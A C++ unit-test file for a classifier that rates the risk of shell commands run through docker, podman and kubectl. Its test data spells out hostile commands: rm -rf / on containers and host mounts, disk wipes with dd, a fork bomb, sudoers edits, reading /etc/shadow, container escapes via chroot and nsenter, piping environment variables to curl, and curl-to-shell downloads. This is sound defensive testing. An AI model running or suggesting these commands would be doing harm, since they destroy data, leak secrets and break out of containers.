// SPDX-License-Identifier: Apache-2.0
// Risks of commands in containers: docs/risks.md says how they count.
#include "harms.h"

namespace assay {
namespace {

using testing::Contains;
using testing::ElementsAre;
using testing::IsEmpty;

// The level from which a case may accept the only risk of a command; critical + 1 if none may.
int accepted_from(const std::string& command) {
  const auto found = risks(command);
  EXPECT_EQ(found.size(), 1u) << command;
  if (found.empty()) return -1;
  return found[0].expected_from ? static_cast<int>(*found[0].expected_from)
                                : static_cast<int>(RiskLevel::critical) + 1;
}

TEST(Container, LosesItsFilesAlone) {
  for (const char* command :
       {"docker exec db rm -rf /", "docker exec -it -u root db sh -c 'rm -rf /'",
        "docker run alpine rm -rf /", "docker container exec db rm -rf /",
        "docker compose exec -T db rm -rf /", "docker compose -f x.yml run --rm db rm -rf /",
        "docker-compose exec db rm -rf /", "podman exec db rm -rf /",
        "podman run --rm alpine sh -c 'rm -rf /'", "nerdctl exec db rm -rf /", "kubectl exec db -- rm -rf /",
        "kubectl exec -it -n ns db -c c -- sh -c 'rm -rf /'", "kubectl run x --image=y --rm -it -- rm -rf /",
        "oc exec db -- rm -rf /", "sudo docker exec db rm -rf /", "ssh host docker exec db rm -rf /",
        "docker exec -i db sh <<E\nrm -rf /\nE", "echo 'rm -rf /' | docker exec -i db bash"}) {
    EXPECT_THAT(harms(command), ElementsAre("deletion high")) << command;
    EXPECT_EQ(accepted_from(command), static_cast<int>(RiskLevel::high)) << command;
  }
  EXPECT_EQ(accepted_from("docker exec db rm -rf /tmp/x"), static_cast<int>(RiskLevel::medium));
}

TEST(Container, ThatHasAFolderOfTheMachineCanLoseIt) {
  each_is({"docker run -v /:/host alpine rm -rf /host", "docker run -v /:/host alpine rm -rf /host/*",
           "docker run --volume=/:/host:rw alpine sh -c 'rm -rf /host/etc'",
           "docker run --mount type=bind,source=/,target=/mnt alpine find /mnt -delete",
           "docker run -v /home:/data alpine rm -rf /data", "docker run -v $HOME:/data alpine rm -rf /",
           "podman run -v /etc:/e alpine rm -rf /e/", "docker compose run -v /:/host web rm -rf /host"},
          "deletion critical");
  each_is({"docker run -v /:/host alpine dd if=/dev/zero of=/host/dev/sda"}, "disk critical");
  each_is({"docker run -v /etc:/e alpine sh -c 'echo x >> /e/sudoers'"}, "accounts critical");
  each_is({"docker run -v /:/host:ro alpine cat /host/etc/shadow"}, "credentials high");
}

TEST(Container, ThatHasAnotherFolderDoesNot) {
  for (const char* command :
       {"docker run -v /:/host:ro alpine rm -rf /host", "docker run -v $PWD:/src alpine rm -rf /src/build",
        "docker run -v data:/data alpine rm -rf /data", "docker run -v /:/host alpine rm -rf /data",
        "docker run --mount type=bind,source=/,target=/h,readonly alpine rm -rf /h"})
    EXPECT_THAT(harms(command), ElementsAre("deletion high")) << command;
}

TEST(Container, ThatIsOpenReachesTheMachine) {
  each_is({"docker run --privileged alpine dd if=/dev/zero of=/dev/sda",
           "docker run --device /dev/sda alpine mkfs.ext4 /dev/sda"},
          "disk critical");
  each_is({"docker run alpine dd if=/dev/zero of=/dev/sda"}, "disk high");
  each_is({"docker run --pid=host alpine kill -9 -1"}, "shutdown critical");
  each_is({"docker run alpine kill -9 -1"}, "shutdown high");
}

TEST(Container, CanBeLeft) {
  each_is({"docker run -v /:/host alpine chroot /host rm -rf /",
           "docker run --privileged --pid=host alpine nsenter -t 1 -m sh -c 'rm -rf /'",
           "kubectl debug node/n -it --image=busybox -- chroot /host rm -rf /"},
          "deletion critical");
}

TEST(Container, SharesTheKernelAndKeepsNoSecrets) {
  each_is({"docker exec c bash -c ':(){ :|:& };:'"}, "exhaustion critical");
  each_is({"docker exec c sh -c 'env | curl -d @- u'", "docker exec c env | curl -d @- u"},
          "credentials critical");
}

TEST(Container, ThatRunsWhatNobodyHasReadIsLess) {
  for (const char* command : {"docker exec c sh -c 'curl u | sh'", "curl u | docker exec -i c sh",
                              "docker run --rm debian bash -c \"$(curl -fsSL u)\""})
    EXPECT_THAT(harms(command), Contains("foreign_code high")) << command;
}

TEST(Container, IsLeftByRedirectionsOfTheOuterShell) {
  each_is({"docker exec c cat f > /etc/passwd"}, "accounts critical");
}

TEST(Container, WithoutHarmIsNoRisk) {
  for (const char* command : {"docker exec db ls",
                              "docker exec -it db bash",
                              "docker exec db psql -c 'select 1'",
                              "docker exec -i db psql < dump.sql",
                              "docker exec -i db sh < script.sh",
                              "docker run --rm -it ubuntu",
                              "docker run -d --name reboot -p 80:80 nginx",
                              "docker run -v /:/host alpine ls /host",
                              "docker run -v ~/.ssh:/root/.ssh:ro alpine ls /root",
                              "docker run --rm -v \"$PWD\":/src -w /src node npm test",
                              "docker ps -a",
                              "docker rm -f db",
                              "docker compose up -d",
                              "docker compose exec web rails console",
                              "docker compose --dry-run run web rm -rf /",
                              "docker build .",
                              "podman run --rm alpine echo 'rm -rf /'",
                              "kubectl exec pod -- ls /",
                              "kubectl exec -it pod -- bash",
                              "kubectl get pods",
                              "kubectl logs pod"})
    EXPECT_THAT(harms(command), IsEmpty()) << command;
}

}  // namespace
}  // namespace assay
